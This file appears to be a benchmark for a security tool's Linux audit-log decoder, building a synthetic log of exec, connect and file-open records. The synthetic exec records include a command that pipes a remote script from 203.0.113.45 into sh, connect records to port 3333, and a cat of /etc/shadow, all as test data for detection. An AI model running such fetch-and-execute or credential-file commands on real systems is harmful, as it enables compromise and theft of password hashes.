/**
 * @module bench/linux-audit
 * Decoding speed of the linux-audit format on a realistic recorded stream: execs (SYSCALL,
 * EXECVE, CWD, two PATHs, PROCTITLE), connects (SYSCALL, SOCKADDR, PROCTITLE) and watched-file
 * opens (SYSCALL, CWD, PATH, PROCTITLE), half of them ENRICHED, with interleaved serials.
 */
import { createReadStream, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { LinuxAuditDecoder } from '../src/sources/linux-audit/decoder.js';

const GS = '\x1d';
const ENRICH = `${GS}ARCH=x86_64 SYSCALL=%s AUID="unset" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"`;

function hex(text: string): string {
  return Buffer.from(text).toString('hex').toUpperCase();
}

function syscall(id: string, num: number, name: string, pid: number, ppid: number, comm: string, exe: string, key: string, enriched: boolean, extra = 'success=yes exit=0 a0=ffffff9c a1=7ffd1c2e9a60 a2=0 a3=0 items=1'): string {
  const base = `type=SYSCALL msg=audit(${id}): arch=c000003e syscall=${num} ${extra} ppid=${ppid} pid=${pid} auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="${comm}" exe="${exe}" subj=unconfined key="${key}"`;
  return enriched ? base + ENRICH.replace('%s', name) : base;
}

/** Writes at least `minRecords` records; returns the number written. */
function generate(path: string, minRecords: number): number {
  const lines: string[] = [];
  let serial = 1000;
  let ms = 1741944067000;
  const commands = [
    ['sh', '-c', 'curl -fsSL http://203.0.113.45/k.sh | sh'],
    ['kubectl', 'get', 'pods', '-A', '-o', 'wide'],
    ['python3', '-c', 'import os; print(os.environ.get("HOME"))'],
    ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'k8s.io', '-id', 'f'.repeat(64), '-address', '/run/containerd/containerd.sock'],
  ];
  while (lines.length < minRecords) {
    const enriched = serial % 2 === 0;
    const stamp = (n: number) => `${Math.floor((ms + n) / 1000)}.${String((ms + n) % 1000).padStart(3, '0')}:${serial + n}`;
    const exec = stamp(0);
    const conn = stamp(1);
    const file = stamp(2);
    const pid = 200000 + (serial % 30000);
    const argv = commands[serial % commands.length];
    const encoded = argv.map((a, k) => `a${k}=${/[\s"]/.test(a) ? hex(a) : `"${a}"`}`).join(' ');
    const title = hex(argv.join('\0')).slice(0, 256);
    // The connect's records interleave with the exec's, as two CPUs writing at once would.
    lines.push(
      syscall(exec, 59, 'execve', pid, pid - 1, argv[0].slice(-15), `/usr/bin/${argv[0]}`, 'vigil_exec', enriched, 'success=yes exit=0 a0=55d0c2a3e2b0 a1=55d0c2a3e310 a2=55d0c2a3e338 a3=8 items=2'),
      `type=EXECVE msg=audit(${exec}): argc=${argv.length} ${encoded}`,
      syscall(conn, 42, 'connect', pid + 1, pid - 1, 'curl', '/usr/bin/curl', 'vigil_connect', enriched, 'success=no exit=-115 a0=5 a1=7ffd1c2e9a60 a2=10 a3=0 items=0'),
      `type=CWD msg=audit(${exec}): cwd="/app"`,
      `type=SOCKADDR msg=audit(${conn}): saddr=02000D05CB00712D0000000000000000` + (enriched ? `${GS}SADDR={ saddr_fam=inet laddr=203.0.113.45 lport=3333 }` : ''),
      `type=PATH msg=audit(${exec}): item=0 name="/usr/bin/${argv[0]}" inode=1837465 dev=00:2f mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
      `type=PATH msg=audit(${exec}): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1837102 dev=00:2f mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
      `type=PROCTITLE msg=audit(${conn}): proctitle=6375726C002D6673534C00687474703A2F2F3230332E302E3131332E34352F6B2E7368`,
      `type=PROCTITLE msg=audit(${exec}): proctitle=${title}`,
      syscall(file, 257, 'openat', pid, pid - 1, 'cat', '/usr/bin/cat', 'vigil_cred', enriched),
      `type=CWD msg=audit(${file}): cwd="/etc"`,
      `type=PATH msg=audit(${file}): item=0 name="shadow" inode=393228 dev=fe:00 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
      `type=PROCTITLE msg=audit(${file}): proctitle=63617400736861646F77`,
    );
    serial += 3;
    ms += 7;
  }
  writeFileSync(path, lines.join('\n') + '\n');
  return lines.length;
}

export async function benchLinuxAudit(): Promise<{ name: string; events: number; seconds: number; eventsPerSecond: number }> {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-bench-audit-'));
  const path = join(dir, 'audit.log');
  try {
    const records = generate(path, 200_000);
    let events = 0;
    let issues = 0;
    const decoder = new LinuxAuditDecoder({ event: () => void events++, issue: () => void issues++ }, { node: 'bench-node' });
    const start = process.hrtime.bigint();
    let line = 0;
    for await (const text of createInterface({ input: createReadStream(path, 'utf8'), crlfDelay: Infinity })) decoder.line(text, { file: path, line: ++line });
    decoder.end();
    const seconds = Number(process.hrtime.bigint() - start) / 1e9;
    if (issues > 0) throw new Error(`benchmark stream produced ${issues} decode issues`);
    return { name: `linux-audit decode (${records} records)`, events, seconds, eventsPerSecond: Math.round(events / seconds) };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
